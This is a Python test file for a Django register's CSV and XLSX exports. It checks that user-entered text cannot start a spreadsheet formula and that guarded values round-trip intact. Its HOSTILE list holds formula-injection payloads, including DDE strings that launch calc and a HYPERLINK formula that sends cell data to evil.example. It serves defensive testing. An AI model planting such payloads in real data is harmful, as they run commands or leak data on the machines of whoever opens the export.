"""What a stranger typed never runs in the spreadsheet of whoever exports it, and comes back as it was."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from typing import Any

import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from mainline.offices import tabular
from mainline.offices.record import Record
from mainline.offices.tabular.formulas import is_formula, marked, unmarked
from mainline.offices.tabular.mapping import mapping_named
from mainline.web.exports import WRITERS, Table
from tests.factories import enter
from tests.register.samples import publication

HOSTILE = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"look")', "+1+1", "-1+1", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "'=1+1", "''=1+1",
    "A;=1+1;B", "A\t=1+1\tB", "A\n=1+1;B", 'A";=1+1;"B', "A,=1+1", "-2+3+cmd|' /C calc'!D2",
)  # fmt: skip
PLAIN = ("", "一种大豆收获机", "A-B", "1.5", "O'Hara", "a = b", "2026-11-22", "AT&T", "x; 'y'", "5 > 3")


def table(*cells: Any) -> Table:
    columns = [f"c{index}" for index in range(len(cells))]
    return Table(columns, columns, [cells])


def as_csv(*cells: Any) -> str:
    return b"".join(WRITERS["csv"][1](table(*cells))).decode("utf-8-sig")


def cells_of(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def cells_as_split_without_heed(text: str) -> list[str]:
    """Cells as a program finds them that parts lines at semicolons and sees no quotation mark inside a line."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return [cell for line in lines for part in line.split("\t") for cell in part.split(";")]


def begins_a_formula(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in set("=+-@＝＋－＠\t\r\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_csv_begins_a_formula(text: str) -> None:
    written = as_csv("title", text, 7)

    assert not [cell for cell in cells_of(written) if begins_a_formula(cell)]
    assert not [cell for cell in cells_as_split_without_heed(written) if begins_a_formula(cell.lstrip('"'))]


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_written_as_it_is(text: str) -> None:
    assert not is_formula(text)
    assert cells_of(as_csv(text))[1] == text


def test_numbers_stay_numbers_and_days_stay_days() -> None:
    assert as_csv(-5, 1.5, 0, None, "2026-11-22").splitlines()[1] == '-5,1.5,0,"","2026-11-22"'


@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@'; \t\r\n＝\"a"), st.characters()), max_size=40))
@settings(max_examples=300, deadline=None)
def test_any_text_is_marked_so_that_none_of_it_runs_and_unmarked_to_what_it_was(text: str) -> None:
    guarded = marked(text)

    assert guarded[:1] not in ("\t", "\r", "\n")
    assert not [part for part in re.split(r"[;\t\r\n]", guarded) if begins_a_formula(part)]
    assert unmarked(guarded) == text
    assert (guarded == text) is not is_formula(text)


def test_marking_takes_time_in_proportion_to_the_text() -> None:
    assert unmarked(marked(";'" * 50_000)) == ";'" * 50_000
    assert unmarked(marked("'" * 100_000 + "=")) == "'" * 100_000 + "="


def test_cells_of_a_workbook_are_text_and_stay_text_when_edited() -> None:
    content = b"".join(WRITERS["xlsx"][1](table(*HOSTILE, 7, -1.5)))

    sheet = load_workbook(io.BytesIO(content)).active
    row = list(sheet[2])
    for cell, text in zip(row, HOSTILE, strict=False):
        assert cell.data_type == "s"
        assert unescape(cell.value) == text
        assert cell.quotePrefix == is_formula(text)
        assert cell.hyperlink is None
    assert [cell.data_type for cell in row[-2:]] == ["n", "n"]


def read_back(data: bytes) -> Sequence[Any]:
    stream = io.BytesIO(data)
    return [found for piece in tabular.split(stream, "rights.csv") for found in tabular.parse(piece)]


@pytest.mark.parametrize("text", [one for one in HOSTILE if one == one.strip() and "\n" not in one])
def test_a_table_of_ours_is_imported_as_it_was_before_it_was_guarded(text: str) -> None:
    mapping = mapping_named("mainline")
    assert mapping is not None
    headers = ["权利种类", "受理局", "名称", "申请号", "备注"]
    rows = [["发明", "CN", text, "201710601862.3", ""]]
    data = b"".join(WRITERS["csv"][1](Table(headers, headers, rows)))

    [record] = read_back(data)

    assert isinstance(record, Record), record
    assert record.titles[0].text == text.replace("\t", " ")


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/search/export/?q=&format={}", "/organisations/export/{}/"])
def test_exports_of_the_register_run_nothing(zh: Client, path: str) -> None:
    evil = "=cmd|'/C calc'!A0"
    enter(publication(title=evil, applicant=evil))

    text = b"".join(zh.get(path.format("csv")).streaming_content).decode("utf-8-sig")
    book = load_workbook(io.BytesIO(b"".join(zh.get(path.format("xlsx")).streaming_content)))

    cells = cells_of(text)
    assert any(evil in cell for cell in cells)
    assert not [cell for cell in cells if begins_a_formula(cell)]
    values = [cell for row in book.active.iter_rows() for cell in row]
    assert any(cell.value == evil for cell in values)
    assert not [cell for cell in values if cell.data_type == "f"]
